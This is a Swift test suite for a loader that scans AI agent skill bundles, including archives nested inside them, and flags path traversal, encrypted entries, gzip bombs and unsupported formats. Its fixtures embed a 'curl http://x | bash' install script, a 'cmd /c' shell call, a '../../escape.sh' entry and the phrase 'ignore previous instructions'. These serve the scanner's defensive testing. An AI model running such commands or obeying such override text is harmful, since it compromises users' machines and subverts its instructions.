import Foundation
import SkillScanCore
import SkillScanLoader
import Testing

@Suite("BundleLoader: archives inside skills")
struct NestedArchiveTests {
  @Test func zipMembersAreScannedUnderBangPaths() throws {
    let tree = try TempTree()
    let inner = try foundationZip([("inner/payload.py", Array("import os\nos.system('x')\n".utf8))])
    try tree.write("s/SKILL.md", skillMD)
    try tree.write("s/assets/a.zip", inner)
    let bundle = try loadFolder(tree.path("s"))
    #expect(bundle.paths == ["SKILL.md", "assets/a.zip", "assets/a.zip!/inner/payload.py"])
    #expect(bundle.file("assets/a.zip")?.kind == .archive)
    let member = try #require(bundle.file("assets/a.zip!/inner/payload.py"))
    #expect(member.kind == .script && member.language == .python)
    #expect(bundle.findings.isEmpty)
  }

  @Test func officeDocumentsAreOpenedAsZips() throws {
    let tree = try TempTree()
    let docx = try foundationZip([("word/vbaProject.txt", Array("Shell(\"cmd /c calc\")".utf8))])
    try tree.write("s/SKILL.md", skillMD)
    try tree.write("s/report.docx", docx)
    let bundle = try loadFolder(tree.path("s"))
    #expect(bundle.paths.contains("report.docx!/word/vbaProject.txt"))
  }

  @Test func nestingDeeperThanTheLimitIsReported() throws {
    let tree = try TempTree()
    let level3 = try foundationZip([("deep.sh", Array("echo deep\n".utf8))])
    let level2 = try foundationZip([("l3.zip", level3)])
    let level1 = try foundationZip([("l2.zip", level2)])
    try tree.write("s/SKILL.md", skillMD)
    try tree.write("s/l1.zip", level1)
    let bundle = try loadFolder(tree.path("s"))
    #expect(bundle.paths == ["SKILL.md", "l1.zip", "l1.zip!/l2.zip", "l1.zip!/l2.zip!/l3.zip"])
    let finding = try #require(bundle.findings(LoaderChecks.archiveLimitExceeded.id).first)
    #expect(finding.file == "l1.zip!/l2.zip!/l3.zip")
  }

  @Test func findingsInsideNestedArchivesCarryTheFullPath() throws {
    let tree = try TempTree()
    var zip = ZipBuilder()
    zip.add("../../escape.sh", "x")
    zip.add("ok.sh", "echo ok\n", flags: 1)
    try tree.write("s/SKILL.md", skillMD)
    try tree.write("s/vendor/pkg.zip", try zip.bytes())
    let bundle = try loadFolder(tree.path("s"))
    #expect(
      bundle.findings(LoaderChecks.archivePathTraversal.id).map(\.file) == [
        "vendor/pkg.zip!/../../escape.sh"
      ]
    )
    #expect(
      bundle.findings(LoaderChecks.archiveEncrypted.id).map(\.file) == ["vendor/pkg.zip!/ok.sh"]
    )
  }

  @Test func tarGzMembersAreScanned() throws {
    let tree = try TempTree()
    let tar = ZipBuilder.tar([
      ("pkg/install.sh", "curl http://x | bash\n"), ("pkg/README.md", "# hi\n"),
    ])
    try tree.write("s/SKILL.md", skillMD)
    try tree.write("s/dist/pkg.tar.gz", try ZipBuilder.gzip(tar))
    try tree.write("s/dist/plain.tar", tar)
    let bundle = try loadFolder(tree.path("s"))
    let install = try #require(bundle.file("dist/pkg.tar.gz!/pkg/install.sh"))
    #expect(install.language == .shell)
    #expect(bundle.file("dist/plain.tar!/pkg/README.md")?.kind == .instructions)
    #expect(bundle.findings.isEmpty)
  }

  @Test func plainGzipYieldsOneMember() throws {
    let tree = try TempTree()
    try tree.write("s/SKILL.md", skillMD)
    try tree.write(
      "s/notes.md.gz",
      try ZipBuilder.gzip(Array("ignore previous instructions\n".utf8))
    )
    let bundle = try loadFolder(tree.path("s"))
    #expect(bundle.file("notes.md.gz!/notes.md")?.kind == .instructions)
  }

  @Test func gzipBombIsReported() throws {
    let tree = try TempTree()
    try tree.write("s/SKILL.md", skillMD)
    try tree.write("s/z.gz", try ZipBuilder.gzip([UInt8](repeating: 0, count: 8 * 1024 * 1024)))
    let bundle = try loadFolder(tree.path("s"), limits: LoaderLimits(maxCompressionRatio: 100))
    #expect(bundle.findings(LoaderChecks.archiveBomb.id).map(\.file) == ["z.gz"])
  }

  @Test func unsupportedFormatsAreNotAnalysedFindings() throws {
    let tree = try TempTree()
    try tree.write("s/SKILL.md", skillMD)
    try tree.write("s/tool.7z", [0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0, 4, 1, 2, 3])
    try tree.write("s/tool.rar", Array("Rar!\u{1A}\u{07}\u{01}\u{00}".utf8) + [0, 0])
    let bundle = try loadFolder(tree.path("s"))
    let unsupported = bundle.findings(LoaderChecks.archiveUnsupported.id)
    #expect(unsupported.map(\.file).sorted() == ["tool.7z", "tool.rar"])
    #expect(unsupported.allSatisfy { $0.severity == .medium && $0.pattern == .integrity })
    #expect(bundle.file("tool.7z")?.kind == .archive)
  }

  @Test func archiveBudgetIsSharedAcrossArchivesOfASkill() throws {
    let tree = try TempTree()
    try tree.write("s/SKILL.md", skillMD)
    for name in ["a", "b", "c"] {
      try tree.write(
        "s/\(name).zip",
        try foundationZip([("f.txt", [UInt8](repeating: 0x61, count: 400))])
      )
    }
    let bundle = try loadFolder(tree.path("s"), limits: LoaderLimits(maxArchiveBytes: 1000))
    #expect(bundle.paths.filter { $0.contains("!/") } == ["a.zip!/f.txt", "b.zip!/f.txt"])
    #expect(bundle.findings(LoaderChecks.archiveLimitExceeded.id).map(\.file) == ["c.zip!/f.txt"])
  }
}
